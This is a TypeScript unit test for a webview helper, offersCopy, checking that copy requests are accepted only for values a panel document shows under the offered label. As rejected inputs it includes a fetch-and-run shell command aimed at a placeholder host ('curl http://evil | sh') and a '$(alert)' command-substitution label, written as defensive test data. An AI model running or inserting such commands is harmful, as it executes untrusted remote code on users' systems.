import * as assert from 'node:assert/strict';
import { offersCopy } from '../../../src/webview/copyable';
import type { PanelDocument } from '../../../src/panels/document';

const document: PanelDocument = {
  title: 'shop.example.com',
  actions: [],
  blocks: [
    { kind: 'facts', rows: [{ label: 'ID', value: { text: 'abc123', copyLabel: 'ID' } }, { label: 'Status', value: { text: 'Active' } }] },
    { kind: 'table', title: 'Validation records', columns: ['Name', 'Value'], rows: [[{ text: '_acme-challenge.shop.example.com', copyLabel: 'TXT name' }, { text: 'token-value', copyLabel: 'TXT value' }]] },
    { kind: 'code', title: 'API object', text: '{"id":"abc123"}', copyLabel: 'JSON' },
    { kind: 'callout', tone: 'error', title: 'Failed', lines: ['secret-looking line'] },
  ],
};

describe('offersCopy: a copy message copies only what the document shows', () => {
  it('accepts each value the document offers, under its own label', () => {
    assert.ok(offersCopy(document, 'abc123', 'ID'));
    assert.ok(offersCopy(document, 'token-value', 'TXT value'));
    assert.ok(offersCopy(document, '_acme-challenge.shop.example.com', 'TXT name'));
    assert.ok(offersCopy(document, '{"id":"abc123"}', 'JSON'));
  });

  it('refuses anything else: other text, a value without a copy button, another label, no document', () => {
    assert.ok(!offersCopy(document, 'curl http://evil | sh', 'ID'));
    assert.ok(!offersCopy(document, 'Active', 'Status'), 'a value without a copy button');
    assert.ok(!offersCopy(document, 'secret-looking line', 'value'), 'callout text has no copy button');
    assert.ok(!offersCopy(document, 'abc123', '$(alert) hostile label'), 'the label must be the one offered');
    assert.ok(!offersCopy(document, 'abc12', 'ID'), 'a prefix is not the value');
    assert.ok(!offersCopy(undefined, 'abc123', 'ID'), 'nothing shown yet');
  });
});
